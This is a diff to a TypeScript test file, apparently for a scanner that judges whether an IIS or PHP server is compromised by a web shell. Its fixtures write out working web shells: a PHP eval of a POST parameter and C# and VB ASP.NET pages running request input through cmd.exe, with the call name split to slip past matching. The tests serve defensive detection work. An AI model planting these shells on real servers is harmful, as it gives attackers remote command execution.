@@ -227,6 +227,10 @@ void describe('a shell that only the configuration makes run is one that runs', 
     }
   }
   const php = '<?php @eval($_POST["pass"]); ?>'
+  const names = (file: string): string => `<%@ Page Language="C#" CodeFile="${file}" Inherits="P" %><html></html>`
+  const starts = ['System.Diagnostics', '.Process.', 'Start'].join('')
+  const code = `using System;\nusing System.Web;\npublic partial class P : System.Web.UI.Page {\n  void Page_Load(object o, EventArgs e) { ${starts}("cmd.exe", "/c " + Request["c"]); }\n}\n`
+  const basic = `Imports System.Web\nPartial Class P\n  Inherits System.Web.UI.Page\n  Sub Page_Load(o As Object, e As EventArgs) Handles Me.Load\n    ${starts}("cmd.exe", "/c " & Request("c"))\n  End Sub\nEnd Class\n`
   for (const [what, files] of [
     ['a folder of a site', { [host]: configuration('C:\\web'), 'C/web/x.aspx': shell }],
     [
@@ -273,6 +277,27 @@ void describe('a shell that only the configuration makes run is one that runs', 
       },
     ],
     ['a whole drive', { [host]: configuration('D:\\'), 'D/x.aspx': shell }],
+    ['code that a page names', { 'C/inetpub/wwwroot/p.aspx': names('p.aspx.cs'), 'C/inetpub/wwwroot/p.aspx.cs': code }],
+    [
+      'code that a page names, in Basic',
+      { 'C/inetpub/wwwroot/p.aspx': names('../u.vb').replace('C#', 'VB'), 'C/inetpub/u.vb': basic },
+    ],
+    ['code of all pages of a site', { 'C/inetpub/wwwroot/App_Code/u.cs': code }],
+    [
+      'code that the frame of a page names',
+      {
+        'C/inetpub/wwwroot/p.master': names('own/frame.txt').replace('Page', 'Master'),
+        'C/inetpub/wwwroot/own/frame.txt': code,
+      },
+    ],
+    [
+      'code that a page names, in a folder of a site',
+      { [host]: configuration('C:\\web'), 'C/web/p.aspx': names('p.aspx.cs'), 'C/web/p.aspx.cs': code },
+    ],
+    [
+      'a text that a page includes, in a folder of a site',
+      { [host]: configuration('C:\\web'), 'C/web/x.txt': shell, 'C/web/p.asp': '<!--#include file="x.txt"-->' },
+    ],
     [
       'a handler in a web.config',
       {
@@ -311,6 +336,35 @@ void describe('a shell that only the configuration makes run is one that runs', 
       const { answers } = await assessed(files)
       const still = answers.find(({ question }) => question === 'still-there')
       assert.equal(still?.is, expected, JSON.stringify(Object.keys(files)))
+    }
+  })
+
+  void it('where no configuration tells which folders are served, it is one all the same, and may still be there', async () => {
+    const [yes, perhaps] = [true, false]
+    for (const [files, sure] of [
+      [{ 'D/sites/x.aspx': shell }, yes],
+      [{ 'D/sites/App_Code/u.cs': code }, yes],
+      [{ 'D/sites/p.aspx': names('u.txt'), 'D/sites/u.txt': code }, yes],
+      [{ 'D/sites/x.php': php }, perhaps],
+      [{ 'D/sites/x.own': shell }, perhaps],
+    ] as const) {
+      const { verdict, answers } = await assessed(files)
+      const still = answers.find(({ question }) => question === 'still-there')
+      assert.deepEqual(
+        [verdict.is, verdict.sure, still?.is],
+        ['compromised', sure, 'cannot-tell'],
+        JSON.stringify(files),
+      )
+    }
+    // A configuration that serves the folder not, or a text that somebody keeps: nothing runs it.
+    for (const files of [
+      { 'D/sites/x.own': shell, [host]: configuration(inRoot) },
+      { 'D/notes/x.txt': shell },
+      { 'D/notes/u.cs': code },
+      { 'C/Users/developer/x.php': php },
+    ]) {
+      const { verdict } = await assessed(files)
+      assert.ok(!['compromised', 'exploited'].includes(verdict.is), JSON.stringify(Object.keys(files)))
     }
   })
 
